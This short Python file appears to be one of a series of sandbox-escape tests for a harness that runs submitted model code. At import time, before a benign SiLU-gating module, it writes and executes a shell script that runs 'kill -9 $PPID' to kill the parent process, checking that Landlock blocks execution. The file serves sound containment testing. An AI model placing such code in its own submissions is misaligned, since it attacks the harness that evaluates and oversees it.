"""Exploit 18/19: write an executable script into the child's own temp dir and run it, with seccomp off, so Landlock's no-execute rule alone must refuse it."""
import os
import stat

import torch.nn as nn

path = os.path.join(os.getcwd(), "payload.sh")
with os.fdopen(os.open(path, os.O_WRONLY | os.O_CREAT, 0o755), "w") as fh:
    fh.write("#!/bin/sh\nkill -9 $PPID\n")
os.chmod(path, stat.S_IRWXU)
os.execv(path, [path])


class ModelNew(nn.Module):
    def forward(self, x):
        gate, up = x.chunk(2, dim=-1)
        return nn.functional.silu(gate) * up
